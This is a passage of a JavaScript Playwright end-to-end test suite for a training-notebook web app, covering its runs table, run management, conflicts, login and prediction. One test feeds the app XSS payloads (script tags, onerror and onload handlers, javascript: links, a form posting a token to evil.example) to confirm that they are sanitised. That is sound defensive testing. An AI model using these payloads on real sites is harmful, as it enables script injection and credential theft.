			await page.locator('input[aria-label="filter runs"]').fill('optimizer.lr=0.01 train.seed=2');
			await waitFor(async () => (await table.locator('tbody tr[data-run]').count()) === 1, { what: 'one row for the text filter' });
			await page.locator('input[aria-label="filter runs"]').fill('');
			// sort by lr, then hide a column; the choice survives a reload
			await table.locator('th[data-column="h:optimizer.lr"] button').click();
			await table.locator('th[data-column="h:optimizer.lr"][aria-sort="ascending"]').waitFor();
			await page.locator('.columns-menu summary').click();
			await page.locator('.column-choice input[data-column="tags"]').uncheck();
			await page.locator('.columns-menu summary').click();
			await page.reload();
			await table.locator(`tr[data-run="${ids[0]}"]`).waitFor({ timeout: 15000 });
			assert((await table.locator('th[data-column="tags"]').count()) === 0, 'the hidden column came back after a reload');
			assert((await table.locator('th[data-column="h:optimizer.lr"][aria-sort="ascending"]').count()) === 1, 'the sort was forgotten');
			// CSV of what is shown
			const [download] = await Promise.all([page.waitForEvent('download'), page.getByRole('button', { name: 'Export CSV' }).click()]);
			const csv = readFileSync(await download.path(), 'utf8').trim().split('\n');
			assert(csv[0].startsWith('run,name,status') && csv[0].includes('optimizer.lr'), `CSV header: ${csv[0]}`);
			assert(csv.length >= 7 && ids.every((id) => csv.some((l) => l.startsWith(id + ','))), `CSV has ${csv.length} lines`);
			// the curves of the six, named; parallel coordinates of lr and seed against the test accuracy
			await page.locator('figure[data-chart="train/loss"] canvas').first().waitFor({ timeout: 15000 });
			await waitFor(() => page.evaluate(() => window.trainbook.page.pc.runs.length === 6 && window.trainbook.page.pc.dims.length >= 2), { what: 'parallel coordinates of six runs' });
			await shot(page, 'runs-table.png');
			await page.locator('.parcoords-panel').screenshot({ path: join(SHOTS, 'runs-parcoords.png') });
			// brushing the lr axis keeps the three runs with the higher rate
			const kept = await page.evaluate(() => {
				const p = window.trainbook.page;
				p.pc.setBrush('h:optimizer.lr', [0.9, 1]);
				return p.pc.brushed();
			});
			assert(kept && kept.length === 3 && ids.slice(3).every((id) => kept.includes(id)), `brushed: ${JSON.stringify(kept)}`);
			await waitFor(async () => (await table.locator('tr.brushed-out').count()) === 3, { what: 'three rows brushed out' });
			await waitFor(() => page.evaluate(() => window.trainbook.page.follow.size === 3), { what: 'three runs drawn' });
			await page.evaluate(() => window.trainbook.page.pc.setBrush('h:optimizer.lr', null));
			// grouped "same spec but seed": two lines, each in a band
			await page.locator('select[aria-label="group runs by"]').selectOption('seed');
			const groups = await waitFor(async () => {
				const g = await page.evaluate(() => {
					const c = window.trainbook.page.charts.get('train/loss');
					return c && c.data.series.map((x) => ({ label: x.label, band: !!x.lo && x.lo.some((v) => v !== null) }));
				});
				return g && g.length === 2 ? g : null;
			}, { what: 'two grouped lines' });
			assert(groups.every((g) => g.band && /\(3 runs\)$/.test(g.label)), JSON.stringify(groups));
			await sleep(400);
			await page.locator('.compare-main').screenshot({ path: join(SHOTS, 'runs-grouped.png') });
			await shot(page, 'runs-page.png');
			await page.locator('select[aria-label="group runs by"]').selectOption('');
		},
	},
	{
		name: 'a run is renamed, archived and deleted from the Runs page; its page shows the spec and a diff',
		needs: ['the Runs page: a table of what differs, filters, columns, CSV, parallel coordinates, a grouped band'],
		fn: async () => {
			const page = S.page;
			const [a, b] = S.sweep;
			await page.goto(S.base + '#/runs?ids=' + a);
			const row = page.locator(`table.hparams tr[data-run="${a}"]`);
			await row.waitFor({ timeout: 15000 });
			await row.locator(`button[aria-label="edit ${a}"]`).click();
			await page.locator('dialog input[name="name"]').fill('best so far');
			await page.locator('dialog textarea[name="notes"]').fill('lr 1e-3 looks right');
			await page.locator('dialog button', { hasText: 'Save' }).click();
			await row.locator('td.name a', { hasText: 'best so far' }).waitFor({ timeout: 10000 });
			await page.locator('.run-legend .legend-item', { hasText: 'best so far' }).waitFor({ timeout: 10000 });
			const saved = (await S.api.get(`api/runs/${a}`)).run;
			assert(saved.name === 'best so far' && saved.notes === 'lr 1e-3 looks right', JSON.stringify(saved));
			// the run's page: read-only highlighted spec, a diff against another run
			await page.goto(S.base + '#/run/' + a);
			await page.locator('.run-title', { hasText: 'best so far' }).waitFor({ timeout: 15000 });
			await page.locator('.spec-view .cm-content', { hasText: 'optimizer' }).waitFor({ timeout: 15000 });
			assert((await page.locator('.spec-view .cm-content').getAttribute('contenteditable')) === 'false', 'the spec is editable');
			await page.locator('select[aria-label="compare the spec with another run"]').selectOption(S.sweep[3]);
			await page.locator('.diff-line.del', { hasText: 'lr: 1.0e-3' }).waitFor({ timeout: 10000 });
			await page.locator('.diff-line.add', { hasText: 'lr: 1.0e-2' }).waitFor();
			await shot(page, 'run-page.png');
			// archive hides it from the table unless asked; delete removes it
			await page.goto(S.base + '#/runs');
			await page.locator(`table.hparams tr[data-run="${b}"]`).waitFor({ timeout: 15000 });
			await page.locator(`button[aria-label="archive ${b}"]`).click();
			await waitFor(async () => (await page.locator(`table.hparams tr[data-run="${b}"]`).count()) === 0, { what: 'the archived run to leave the table' });
			await page.locator('input[aria-label="show archived runs"]').check();
			await page.locator(`table.hparams tr.archived[data-run="${b}"]`).waitFor();
			await page.locator(`button[aria-label="delete ${b}"]`).click();
			await page.locator('dialog button', { hasText: 'Delete' }).click();
			await waitFor(async () => (await page.locator(`table.hparams tr[data-run="${b}"]`).count()) === 0, { what: 'the deleted run to leave the table' });
			const gone = await S.api.raw(`api/runs/${b}`);
			assert(gone.status === 404, `deleted run answers ${gone.status}`);
		},
	},
	{
		name: 'a run\'s duration is the same in its header and on the Workspace (newcomer bug 6)',
		needs: ['Resume continues the stopped run from its checkpoint, on the same curve'],
		fn: async () => {
			const page = S.page;
			await page.goto(S.base + '#/run/' + S.runId);
			const took = await waitFor(async () => {
				const t = await page.locator('.run-head .progress-text').textContent();
				const m = / took ([\d:.]+ ?s?)$/.exec(t.trim());
				return m ? m[1] : null;
			}, { timeout: 15000, what: 'the run header to say how long it took' });
			await page.goto(S.base + '#/');
			const cellText = await page.locator(`table.runs tr[data-run="${S.runId}"] td`).nth(6).textContent();
			assert(cellText === took, `Workspace says ${cellText}, the run's header ${took}`);
			const run = (await S.api.get(`api/runs/${S.runId}`)).run;
			assert(run.seconds < run.ended - run.started, `the duration counts the stopped time: ${run.seconds} s of ${run.ended - run.started} s`);
		},
	},
	{
		name: 'a cell lists its earlier runs under it, each openable (newcomer bug 11)',
		needs: ['an uploaded notebook runs to completion with evaluation and checkpoints'],
		fn: async () => {
			const page = S.page;
			await openNotebook(page, SHORT);
			const cell = page.locator('.run-cell[data-cell-id="short"]');
			await cell.locator('button[aria-label="run this cell"]').click();
			await waitFor(async () => (await cell.locator('.run-view').getAttribute('data-run')) !== S.shortRun, { timeout: 15000, what: 'a new run of the cell' });
			const newer = await cell.locator('.run-view').getAttribute('data-run');
			const earlier = cell.locator('details.cell-runs');
			await earlier.locator('summary', { hasText: 'Earlier runs of this cell (1)' }).waitFor({ timeout: 15000 });
			await cell.locator(`button[aria-label="stop run ${newer}"]`).click().catch(() => {});
			await earlier.locator('summary').click();
			await earlier.locator(`a[href="#/run/${S.shortRun}"]`).click();
			await page.locator('.run-title').waitFor({ timeout: 15000 });
			assert(page.url().endsWith('#/run/' + S.shortRun), page.url());
			await waitFor(async () => ['stopped', 'completed'].includes((await S.api.get(`api/runs/${newer}`)).run.status), { timeout: 120000, what: `${newer} to end` });
		},
	},
	{
		name: 'an edit conflict (412) is explained and can be resolved',
		needs: ['the bundled example notebook opens with a model summary from the server'],
		fn: async () => {
			const page = S.page;
			await openNotebook(page, EXAMPLE);
			const disk = await S.api.get('api/notebooks/' + EXAMPLE);
			disk.metadata = { ...disk.metadata, changed_elsewhere: true };
			await S.api.put('api/notebooks/' + EXAMPLE, disk); // no If-Match: another program's save
			const md = page.locator('.markdown-cell').first();
			await md.dblclick();
			await page.keyboard.type(' edited');
			await page.locator('.banner.conflict').waitFor({ timeout: 15000 });
			const state = await page.locator('.save-state').textContent();
			assert(/conflict/i.test(state), `save state says: ${state}`);
			const onDisk = JSON.parse(readFileSync(join(workspace, EXAMPLE), 'utf8'));
			assert(onDisk.metadata.changed_elsewhere === true, 'the page overwrote the other save');
			await page.locator('.banner.conflict button', { hasText: 'Reload from disk' }).click();
			await waitFor(() => page.evaluate(() => window.trainbook.page && window.trainbook.page.state === 'saved'), { what: 'reload from disk' });
			assert((await page.locator('.banner.conflict').count()) === 0, 'conflict banner still shown after reloading');
		},
	},
	{
		name: 'notebooks can be created, renamed and deleted from the workspace',
		needs: ['token URL opens the workspace with the example notebook and the system panel'],
		fn: async () => {
			const page = S.page;
			await page.goto(S.base + '#/');
			await page.waitForSelector('table.notebooks tbody tr');
			await page.waitForSelector('table.runs tbody tr[data-run]'); // earlier cases made runs
			await sleep(2500); // a few system samples, so the sparklines have a line
			await shot(page, 'workspace.png');
			await page.getByRole('button', { name: 'New notebook' }).click();
			await page.locator('dialog input').fill('e2e-new');
			await page.keyboard.press('Enter');
			await page.waitForSelector('.nb-title:has-text("e2e-new.ipynb")', { timeout: 15000 });
			assert(existsSync(join(workspace, 'e2e-new.ipynb')), 'the new notebook is not in the workspace');
			assert(nbformatValidate(join(workspace, 'e2e-new.ipynb')) === '', 'the new notebook does not validate');
			// Jupyter's command-mode keys: B adds a cell below (in edit mode), Esc, D D deletes, Z undoes, Ctrl+S saves
			await waitFor(() => page.evaluate(() => window.trainbook.page && window.trainbook.page.state === 'saved'), { what: 'the new notebook to open' });
			const count = () => page.locator('.cells > .cell').count();
			const n0 = await count();
			await page.locator('.markdown-cell .markdown-body').first().click();
			await page.keyboard.press('b');
			await waitFor(async () => (await count()) === n0 + 1, { timeout: 5000, what: 'B to add a cell' });
			await page.keyboard.type('model: mlp');
			const typed = await page.locator('.cells > .cell').nth(1).locator('.cm-content').innerText();
			assert(typed.includes('model: mlp'), `B did not leave the new cell in edit mode: "${typed}"`);
			await page.keyboard.press('Escape');
			await page.keyboard.press('d');
			await page.keyboard.press('d');
			await waitFor(async () => (await count()) === n0, { timeout: 5000, what: 'D D to delete the cell' });
			await page.keyboard.press('z');
			await waitFor(async () => (await count()) === n0 + 1, { timeout: 5000, what: 'Z to bring the cell back' });
			await page.keyboard.press('Control+s');
			await waitSaved(page);
			const saved = JSON.parse(readFileSync(join(workspace, 'e2e-new.ipynb'), 'utf8'));
			assert(saved.cells.length === n0 + 1 && [].concat(saved.cells[1].source).join('').includes('model: mlp'), 'the keyboard edits were not saved');
			await page.goto(S.base + '#/');
			await page.locator('button[aria-label="rename e2e-new.ipynb"]').click();
			await page.locator('dialog input').fill('e2e-renamed.ipynb');
			await page.locator('dialog button', { hasText: 'OK' }).click();
			await page.waitForSelector('tr[data-path="e2e-renamed.ipynb"]', { timeout: 10000 });
			assert(!existsSync(join(workspace, 'e2e-new.ipynb')) && existsSync(join(workspace, 'e2e-renamed.ipynb')), 'rename did not move the file');
			await page.locator('button[aria-label="delete e2e-renamed.ipynb"]').click();
			await page.locator('dialog button', { hasText: 'Cancel' }).click();
			assert(existsSync(join(workspace, 'e2e-renamed.ipynb')), 'Cancel deleted the notebook');
			await page.locator('button[aria-label="delete e2e-renamed.ipynb"]').click();
			await page.locator('dialog button', { hasText: 'Delete' }).click();
			await waitFor(async () => (await page.locator('tr[data-path="e2e-renamed.ipynb"]').count()) === 0, { what: 'the row to go' });
			assert(!existsSync(join(workspace, 'e2e-renamed.ipynb')), 'the file is still there after Delete');
		},
	},
	{
		name: 'a stale cookie brings up the token form, which logs back in',
		needs: ['token URL opens the workspace with the example notebook and the system panel'],
		fn: async () => {
			const page = S.page;
			await page.goto(S.base + '#/');
			await page.waitForSelector('table.notebooks tbody tr');
			await ctx.clearCookies();
			await page.evaluate(() => (location.hash = '#/runs')); // no page load: the API answers 401
			const input = page.locator('.login input[name=token]');
			await input.waitFor({ timeout: 15000 });
			await input.fill('not-the-token');
			await input.press('Enter');
			await page.locator('.login .error:has-text("not accepted")').waitFor({ timeout: 10000 });
			await input.fill(TOKEN);
			await Promise.all([page.waitForNavigation({ timeout: 15000 }), input.press('Enter')]);
			await page.waitForSelector('h1:has-text("Runs")', { timeout: 15000 });
			await page.waitForSelector('.conn[data-state=open]', { timeout: 15000 });
		},
	},
	{
		name: 'the page works under a --base-url prefix (relative URLs only)',
		needs: ['server starts'],
		fn: async () => {
			const ws2 = join(work, 'ws-prefix');
			mkdirSync(ws2);
			const port = await freePort();
			const other = await startServer({ bin: BIN, port, workspace: ws2, token: TOKEN, logPath: serverLog + '.prefix', baseUrl: '/tb/' });
			const page = await ctx.newPage();
			const outside = [];
			page.on('request', (r) => {
				const u = new URL(r.url());
				if (u.port === String(port) && !u.pathname.startsWith('/tb/')) outside.push(u.pathname);
			});
			try {
				await page.goto(other.base + '?token=' + TOKEN);
				await page.waitForSelector(`tr[data-path="${EXAMPLE}"]`, { timeout: 15000 });
				await page.waitForSelector('.conn[data-state=open]', { timeout: 15000 });
				await page.locator(`tr[data-path="${EXAMPLE}"] a.nb-link`).click();
				await page.locator('.model-summary table.layers').first().waitFor({ timeout: 15000 });
				assert(outside.length === 0, `requests outside the prefix: ${outside.slice(0, 5).join(', ')}`);
			} finally {
				await page.close();
				other.proc.kill('SIGTERM');
				await Promise.race([new Promise((r) => other.proc.once('exit', r)), sleep(10000)]);
			}
		},
	},
	{
		name: 'hostile markdown, run names and spec errors are shown as text, never run (CVE-2021-32798 class)',
		needs: ['token URL opens the workspace with the example notebook and the system panel'],
		// Chromium reports the payload's inline handlers and styles as refused
		// while the sanitiser parses them (nothing runs: that is the policy as
		// the second line of defence). Here what counts is what ran and what
		// stayed in the page, asserted below.
		cspExpected: true,
		fn: async () => {
			const page = S.page;
			const payload = (n) => `<img src=x onerror="window.__pwned=${n}">`;
			const markdown = ['# Hostile notes', '<script>window.__pwned = 1</script>', payload(2),
				'<style>body { display: none !important }</style>', '<form action="http://evil.example/steal"><input name="token"><button>Log in</button></form>',
				'<a href="javascript:window.__pwned=3">click me</a>', '<svg onload="window.__pwned=4"></svg>', '<p style="position:fixed;inset:0;background:red">cover</p>',
				'![tracker](http://evil.example/pixel.gif)'].join('\n\n');
			const badSpec = `data: {dataset: synthetic, shape: [1,4,4], classes: 2, train_size: 8, batch_size: 4}\nmodel: [flatten, {'${payload(5)}': 4}]\n`;
			await S.api.post('api/notebooks', { path: 'e2e-hostile.ipynb', content: {
				cells: [
					{ cell_type: 'markdown', id: 'md1', metadata: {}, source: markdown },
					{ cell_type: 'code', id: 'run1', metadata: { trainbook: { kind: 'run' } }, execution_count: null, outputs: [], source: badSpec },
				], metadata: {}, nbformat: 4, nbformat_minor: 5 } });
			const runName = payload(6) + '<b>bold</b>';
			const okSpec = 'data: {dataset: synthetic, shape: [1,4,4], classes: 2, train_size: 8, test_size: 4, batch_size: 4}\nmodel: [flatten, {linear: 2}]\ntrain: {epochs: 1}\n';
			const run = await S.api.post('api/runs', { spec: okSpec, name: runName });
			const dialogs = [];
			const onDialog = (d) => dialogs.push(d.type() + ': ' + d.message());
			page.on('dialog', onDialog);
			try {
				await openNotebook(page, 'e2e-hostile.ipynb');
				await page.waitForSelector('.markdown-cell h1:has-text("Hostile notes")');
				await page.locator('.spec-errors li', { hasText: 'expected a layer type name' }).first().waitFor({ timeout: 15000 });
				const errText = await page.locator('.spec-errors li').first().textContent();
				assert(errText.includes(payload(5)), `the spec error does not show the layer name as text: ${errText}`);
				await sleep(500);
				const inPage = () => page.evaluate(() => ({
					pwned: window.__pwned,
					handlers: document.querySelectorAll('[onerror], [onload], [onclick]').length,
					markdownStyles: document.querySelectorAll('.markdown-body style, .markdown-body [style], .markdown-body form, .markdown-body input, .markdown-body button').length,
					jsLinks: [...document.querySelectorAll('a[href]')].filter((a) => /^\s*javascript:/i.test(a.getAttribute('href'))).length,
					bodyShown: getComputedStyle(document.body).display !== 'none',
					bold: [...document.querySelectorAll('b')].filter((b) => b.textContent === 'bold').length,
				}));
				// In the notebook: the markdown and the spec error.
				let found = await inPage();
				assert(found.markdownStyles === 0 && found.bodyShown, `markdown kept style or form elements: ${JSON.stringify(found)}`);
				assert(found.handlers === 0 && found.jsLinks === 0, `event handlers or javascript: links in the notebook: ${JSON.stringify(found)}`);
				// On the runs page and in the run's view: the run's name.
				for (const view of ['#/runs', '#/runs?ids=' + run.run.id]) {
					await page.goto(S.base + view);
					await page.getByText(runName).first().waitFor({ timeout: 15000 });
					await sleep(500);
					found = await inPage();
					assert(found.handlers === 0 && found.bold === 0, `${view}: the run name was parsed as HTML: ${JSON.stringify(found)}`);
				}
				assert(found.pwned === undefined, `injected script ran (window.__pwned = ${found.pwned})`);
				assert(dialogs.length === 0, `dialogs opened: ${dialogs.join(' | ')}`);
			} finally {
				page.off('dialog', onDialog);
			}
		},
	},
	{
		name: 'Predict on an uploaded PNG shows the top-5 bars and the image as the model saw it; ONNX downloads',
		needs: ['an uploaded notebook runs to completion with evaluation and checkpoints'],
		fn: async () => {
			const page = S.page;
			// on the run's own page (its cell may show a later run by now): the run view brings the panel there too
			await page.goto(S.base + '#/run/' + S.shortRun);
			const cell = page.locator(`.run-view[data-run="${S.shortRun}"]`);
			const ckpt = cell.locator('li.ckpt').first();
			await ckpt.waitFor({ timeout: 15000 });
			const file = await ckpt.getAttribute('data-file');
			await ckpt.locator('button', { hasText: 'Predict' }).click();
			const panel = cell.locator('section.predict');
			await panel.locator('h4', { hasText: `Predict with ${file}` }).waitFor({ timeout: 5000 });
			const [img] = fashionTestImages(1);
			await panel.locator('input[type=file]').setInputFiles({ name: 'ankle-boot.png', mimeType: 'image/png', buffer: img.png });
			const bars = panel.locator('li.predict-bar');
			await waitFor(async () => (await bars.count()) === 5, { timeout: 15000, what: 'five bars' });
			const shown = await bars.evaluateAll((els) => els.map((e) => ({ cls: e.dataset.class, width: e.querySelector('.predict-fill').style.width })));
			const api = await S.api.post(`api/runs/${S.shortRun}/predict`, { image: img.png.toString('base64'), checkpoint: file });
			assert(JSON.stringify(shown.map((b) => b.cls)) === JSON.stringify(api.top.map((t) => t.class)), `the page shows ${shown.map((b) => b.cls)}, the API says ${api.top.map((t) => t.class)}`);
			const widths = shown.map((b) => parseFloat(b.width));
			assert(widths[0] > 0 && widths.every((w, i) => i === 0 || w <= widths[i - 1]), `bar widths ${widths}`);
			const seen = await panel.locator('canvas.predict-seen').evaluate((c) => [c.width, c.height]);
			assert(seen[0] === 28 && seen[1] === 28, `the seen image is ${seen}`);
			// A test sample from the evaluation classifies too.
			await panel.locator('button.predict-sample').first().click();
			await panel.locator('.predict-list p', { hasText: 'test sample' }).waitFor({ timeout: 15000 });
			await shot(page, 'predict.png');
			const href = await ckpt.locator('a', { hasText: 'ONNX' }).getAttribute('href');
			assert(href.endsWith(`/checkpoints/${encodeURIComponent(file)}/model.onnx`), `ONNX link ${href}`);
			const r = await S.api.raw(`api/runs/${S.shortRun}/checkpoints/${encodeURIComponent(file)}/model.onnx`);
			assert(r.status === 200 && (await r.arrayBuffer()).byteLength > 1000, `ONNX download: HTTP ${r.status}`);
		},
	},
	noPageErrorsCase('the page raised no uncaught errors', S, ['server starts']),
];

await runSuite(cases, {
	S, serverLog, live: () => ctx,
	onFail: (c) => failureShot(S.page, 'failed-', c.name),
	cleanup: () => cleanUp(ctx, server, work),
});
